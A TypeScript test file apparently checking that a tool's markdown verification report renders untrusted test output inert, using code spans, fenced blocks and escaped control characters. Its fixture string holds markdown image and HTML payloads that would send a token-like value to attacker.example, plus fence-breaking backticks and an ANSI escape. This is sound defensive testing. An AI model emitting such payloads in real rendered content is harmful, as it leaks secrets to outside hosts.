/**
 * `.peers/VERIFY.md` quotes what the gates printed: the code under test speaking, a peer's in a
 * run. Opened on GitHub or in a preview, that output must not become an image (fetched with what
 * the output put in its URL), a link, HTML or a row of its own. SECURITY.md, "Peer text outside
 * the sandbox is inert".
 */
import { expect, test } from 'bun:test';
import { formatVerifyMarkdown, formatVerifyTable } from '../../../src/gates/verify-report.ts';
import { missingPythonModuleNote } from '../../../src/gates/missing-program.ts';
import type { VerifyReport } from '../../../src/gates/verify-run.ts';

const PRINTED = 'FAIL ![x](https://attacker.example/?d=sk-live-1) | <img src=https://attacker.example/i> \u001b[2J\n```\n![y](https://attacker.example/z)\n````';

const report: VerifyReport = {
  project: 'app',
  head: 'a'.repeat(40),
  ok: false,
  hard: [{ id: 'tests', state: 'fail', diagnostic: PRINTED, duration_ms: 5, cached: false, cmd: 'npm test' } as unknown as VerifyReport['hard'][number]],
  commands: [{ id: 'lint', state: 'fail', durationMs: 3, diagnostic: PRINTED, cmd: 'npm run lint', excerpt: PRINTED }],
  finishedAt: '2026-12-06T00:00:00.000Z',
  durationMs: 8,
  notes: [`uncommitted: ${PRINTED.slice(0, 60)}`],
};

test('a diagnostic is one code span in its cell, the output one fenced block, escape sequences shown', () => {
  const md = formatVerifyMarkdown(report);
  // A note (it names the repository's paths) is inert too: no image, no raw escape.
  const note = md.split('\n').find((l) => l.startsWith('- '))!;
  expect(note).not.toMatch(/^- uncommitted: FAIL !\[/);
  expect(note).not.toContain('\u001b');
  const row = md.split('\n').find((l) => l.startsWith('| lint |'))!;
  // Fenced by five backticks (the output holds a run of four), padded since it ends with one.
  expect(row).toBe('| lint | fail | 3 | ````` FAIL ![x](https://attacker.example/?d=sk-live-1) \\| <img src=https://attacker.example/i> <U+001B>[2J ``` ![y](https://attacker.example/z) ```` ````` |');
  const block = /\n(`{5,})text\n([\s\S]*?)\n\1\n/.exec(md);
  expect(block?.[2]).toBe(PRINTED.replace('\u001b', '<U+001B>'));
  expect(md).not.toContain('\u001b');
});

test("a diagnostic longer than the table's cell is given whole below it: its end is the advice (what to install, where)", () => {
  const advice = missingPythonModuleNote('pytest');
  const long: VerifyReport = { ...report, notes: [], commands: [], hard: [{ id: 'tests', state: 'fail', durationMs: 5, diagnostic: advice, cmd: 'python -m pytest' } as VerifyReport['hard'][number]] };
  const table = formatVerifyTable(long, 80);
  const row = table.find((l) => l.startsWith('hard'))!;
  expect(row.endsWith('…')).toBe(true);
  expect(table).toContain(`  hard tests: ${advice}`);
  const md = formatVerifyMarkdown(long);
  expect(md).toContain('## Diagnostics the tables cut, whole');
  expect(md).toContain('`peers doctor` lists what the image lacks');
  // A diagnostic that fits is said once.
  const short: VerifyReport = { ...long, hard: [{ ...long.hard[0]!, diagnostic: 'exit 1' }] };
  expect(formatVerifyTable(short, 80).join('\n')).not.toContain('Diagnostics the table cuts');
  expect(formatVerifyMarkdown(short)).not.toContain('Diagnostics the tables cut');
});
